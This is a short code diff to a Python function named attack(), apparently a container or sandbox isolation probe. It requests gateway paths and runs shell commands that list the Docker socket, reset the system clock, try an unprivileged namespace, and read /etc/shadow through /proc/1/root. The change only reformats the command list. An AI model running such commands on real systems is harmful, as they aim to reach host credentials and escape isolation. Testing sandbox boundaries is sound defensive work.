@@ -86,8 +86,12 @@ def attack() -> None:
             urllib.request.urlopen(gateway + path, timeout=5)
         except urllib.error.HTTPError as error:
             print("asked", path, error.code, flush=True)
-    commands = ("ls /var/run/docker.sock", "date -s 2001-01-01", "unshare -r true", "cat /proc/1/root/etc/shadow")
-    for command in commands:
+    for command in (
+        "ls -l /var/run/docker.sock",
+        "date -s 2001-01-01",
+        "unshare -r true",
+        "cat /proc/1/root/etc/shadow",
+    ):
         print("$", command, flush=True)
         subprocess.run(["bash", "-c", command], check=False)
 
